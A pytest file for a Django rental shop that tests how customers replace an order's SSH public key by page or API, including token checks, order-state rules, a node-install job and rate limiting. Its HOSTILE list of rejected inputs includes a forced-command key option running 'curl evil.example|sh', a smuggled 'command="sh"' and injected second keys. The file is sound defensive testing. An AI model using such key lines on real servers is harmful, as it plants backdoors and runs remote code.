"""The customer replaces the order's SSH key with the order's secret link (page) or token (API): before the
preparation the order simply takes it; while the rental runs it is installed on the nodes by a job; while the node
is prepared, after the end, with a wrong token or with a key that is not one plain public key, nothing is stored."""

from __future__ import annotations

import datetime as dt

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ed25519
from django.core.cache import cache
from django.test import Client
from django.utils import timezone

from core.jobs.kinds import JobKind
from core.jobs.models import Job
from orders.models import Order, SshKeyChange
from orders.order_links import order_status_path
from orders.orders import order_transition
from orders.sshkeys import parse_ssh_public_key
from tests.api_answers import error_fields
from tests.shop.helpers import order_running
from tests.stored_rows import an_order


def new_key(comment: str = "ada@new-laptop") -> str:
    line = (
        ed25519.Ed25519PrivateKey.generate()
        .public_key()
        .public_bytes(serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH)
    )
    return f"{line.decode()} {comment}"


def api_post(client, order: Order, key: str, token: str | None = None):
    return client.post(
        f"/api/v1/orders/{order.reference}/ssh-key/",
        {"ssh_public_key": key},
        content_type="application/json",
        headers={"X-Order-Token": token if token is not None else order.token},
    )


def page_post(client, order: Order, key: str, **extra):
    return client.post(order_status_path(order) + "ssh-key/", {"ssh_public_key": key}, **extra)


@pytest.fixture
def placed(make_node):
    """An order awaiting payment, with its token, stored as placing it stores it."""

    def place() -> Order:
        return an_order(nodes=[make_node()])

    return place


def stored(order: Order) -> tuple:
    order.refresh_from_db()
    return order.ssh_public_key, order.ssh_key_fingerprint, SshKeyChange.objects.filter(order=order).count()


@pytest.mark.django_db
def test_before_payment_the_page_replaces_the_key_and_says_so(placed, client):
    # Given an order awaiting payment: its page offers "Replace SSH key" with the key in use
    order = placed()
    page = client.get(order_status_path(order)).content.decode()
    assert 'id="ssh-key"' in page and order.ssh_key_fingerprint in page
    key = new_key()

    # When the customer pastes a new key in the form
    response = page_post(client, order, key, follow=True)

    # Then the order uses it at once, the change and an event are recorded, and the page says it is saved
    assert response.redirect_chain[-1][0].endswith("#ssh-key")
    old = order.ssh_key_fingerprint
    parsed = parse_ssh_public_key(key)
    assert stored(order) == (parsed.line, parsed.fingerprint, 1)
    change = SshKeyChange.objects.get(order=order)
    assert (change.old_fingerprint, change.new_fingerprint, change.actor) == (old, parsed.fingerprint, "customer")
    assert change.applied_at is not None
    assert order.events.filter(reason__contains=parsed.fingerprint).exists()
    shown = response.content.decode()
    assert "Your new SSH key is saved" in shown and parsed.fingerprint in shown
    assert not Job.objects.filter(kind=JobKind.ACCESS_KEY_REPLACE).exists()  # no node to touch


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("language", "title"), [("es", "Sustituir la clave SSH"), ("fr", "Remplacer la clé SSH")], ids=["es", "fr"]
)
def test_the_form_is_in_the_customers_language(placed, client, language, title):
    order = placed()

    page = client.get(order_status_path(order), headers={"Accept-Language": language}).content.decode()

    assert title in page


@pytest.mark.django_db
def test_the_api_replaces_the_key_before_the_preparation_with_202(placed, api_client):
    order = placed()
    order_transition(order=order, to="paid", actor="system", reason="paid in the test")
    key = new_key()

    response = api_post(api_client, order, key)

    assert response.status_code == 202, response.content
    body = response.json()
    parsed = parse_ssh_public_key(key)
    assert body["new_fingerprint"] == parsed.fingerprint and body["applied_at"] is not None
    assert "saved" in body["detail"]
    assert stored(order) == (parsed.line, parsed.fingerprint, 1)


@pytest.mark.django_db
def test_a_wrong_token_is_a_plain_404_and_stores_nothing(placed, api_client, client):
    order = placed()
    before = stored(order)
    other = placed()

    by_api = api_post(api_client, order, new_key(), token="0" * 64)
    with_other_token = api_post(api_client, order, new_key(), token=other.token)
    no_such_order = api_post(api_client, Order(reference="B2-AAAA-AAAA"), new_key(), token=order.token)
    by_page = client.post(f"/o/{order.reference}/{'0' * 64}/ssh-key/", {"ssh_public_key": new_key()})

    assert [r.status_code for r in (by_api, with_other_token, no_such_order, by_page)] == [404, 404, 404, 404]
    assert error_fields(by_api, "not_found") == error_fields(
        no_such_order, "not_found"
    )  # nothing tells a stranger that the order exists
    assert stored(order) == before


KEY = new_key("ada@lab")
HOSTILE = {
    "second-key-on-a-new-line": KEY + "\n" + new_key("mallory@elsewhere"),
    "second-key-on-the-same-line": KEY + " " + new_key("mallory@elsewhere"),
    "forced-command-option": 'command="curl evil.example|sh" ' + KEY,
    "from-option": 'from="*",no-pty ' + KEY,
    "nul-in-the-data": KEY[:30] + "\0" + KEY[30:],
    "second-key-after-a-carriage-return": KEY + "\r" + new_key("mallory@elsewhere"),
    "option-after-a-carriage-return": KEY + '\rcommand="sh" ' + new_key("mallory@elsewhere"),
    "second-key-after-a-unicode-line-separator": KEY + "\u2028" + new_key("mallory@elsewhere"),
    "private-key": "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----",
    "dsa": "ssh-dss AAAAB3NzaC1kc3MAAACBAP1/U4EddRIpUt9KnC7s5Of2EbdSPO9EAMMeP4C2USZpRV1AIlH7WT2NWPq/xfW6MPbLm1Vs14E7",
    "truncated": KEY.split()[0] + " " + KEY.split()[1][:-12],
    "empty": "   ",
}


@pytest.mark.django_db
@pytest.mark.parametrize("key", list(HOSTILE.values()), ids=list(HOSTILE))
def test_a_key_that_is_not_one_plain_public_key_is_refused_on_its_field_and_nothing_is_stored(
    placed, api_client, client, key
):
    order = placed()
    before = stored(order)

    by_api = api_post(api_client, order, key)
    by_page = page_post(client, order, key)

    assert by_api.status_code == 400, by_api.content
    assert list(error_fields(by_api, "invalid")) == ["ssh_public_key"] and by_api.json()["ssh_public_key"][0]
    assert by_page.status_code == 400
    page = by_page.content.decode()
    assert 'id="id_ssh_public_key_error"' in page  # the message sits on the field
    assert "PRIVATE KEY" not in page.split('id="ssh-key"', 1)[1]  # a pasted private key is never echoed back
    assert stored(order) == before


@pytest.mark.django_db
def test_the_same_key_again_is_refused_with_a_clear_message(placed, api_client):
    order = placed()
    before = stored(order)

    response = api_post(api_client, order, order.ssh_public_key)

    assert response.status_code == 400
    assert error_fields(response, "invalid") == {
        "ssh_public_key": ["This is already the key of this order: paste the new public key."]
    }
    assert stored(order) == before


@pytest.mark.django_db
def test_while_the_node_is_prepared_the_key_waits_for_the_hand_over(placed, api_client, client):
    order = placed()
    for status in ("paid", "preparing"):
        order_transition(order=order, to=status, actor="system", reason="in the test")
    before = stored(order)

    response = api_post(api_client, order, new_key())
    page = client.get(order_status_path(order)).content.decode()

    assert response.status_code == 409
    assert "wait until access is handed over" in response.json()["detail"]
    assert 'id="ssh-key"' not in page  # no form in this state
    assert stored(order) == before


@pytest.mark.django_db
def test_after_the_end_there_is_no_key_to_replace(placed, api_client):
    order = placed()
    running = order_running(order.reference)
    order_transition(order=running, to="ended", actor="system", reason="in the test")
    before = stored(order)

    response = api_post(api_client, order, new_key())

    assert response.status_code == 409 and "ended" in response.json()["detail"]
    assert stored(order) == before


@pytest.mark.django_db
def test_once_the_rentals_end_has_passed_the_key_is_no_longer_replaced(placed, api_client):
    # Given a rental whose end has passed (its node being cleaned, or its read-only download window open)
    order = placed()
    running = order_running(order.reference)
    Order.objects.filter(pk=running.pk).update(ends_at=timezone.now() - dt.timedelta(minutes=1))
    before = stored(order)

    response = api_post(api_client, order, new_key())

    assert response.status_code == 409 and "download window" in response.json()["detail"]
    assert stored(order) == before
    assert not Job.objects.filter(kind=JobKind.ACCESS_KEY_REPLACE).exists()


@pytest.mark.django_db
def test_while_active_the_change_is_recorded_and_a_job_installs_it_on_the_nodes(placed, api_client, client):
    # Given a running rental
    order = placed()
    order_running(order.reference)
    before = stored(order)
    key = new_key()

    # When the customer sends a new key
    response = api_post(api_client, order, key)

    # Then it is accepted, not applied yet: the order keeps the installed key until the nodes carry the new one
    assert response.status_code == 202, response.content
    assert response.json()["applied_at"] is None and "being installed" in response.json()["detail"]
    assert stored(order)[:2] == before[:2]
    change = SshKeyChange.objects.get(order=order)
    assert change.public_key == parse_ssh_public_key(key).line
    assert Job.objects.filter(kind=JobKind.ACCESS_KEY_REPLACE, args={"change_id": change.pk}).exists()
    page = client.get(order_status_path(order)).content.decode()
    assert 'id="ssh-key-pending"' in page and change.new_fingerprint in page

    # When they send yet another key before it is installed, the newer one wins
    newer = api_post(api_client, order, new_key("ada@third"))
    assert newer.status_code == 202
    change.refresh_from_db()
    assert change.error  # superseded: its job stops
    assert api_post(api_client, order, key).status_code == 202  # the superseded key may be sent again


@pytest.mark.django_db
def test_key_changes_are_rate_limited_per_client(placed, settings):
    settings.RATELIMIT_ENABLE = True
    settings.RATELIMIT_KEY_CHANGES = 2
    cache.clear()
    order = placed()
    client = Client(REMOTE_ADDR="198.51.100.44")
    try:
        answers = [api_post(client, order, new_key()).status_code for _ in range(3)]
    finally:
        cache.clear()

    assert answers == [202, 202, 429]
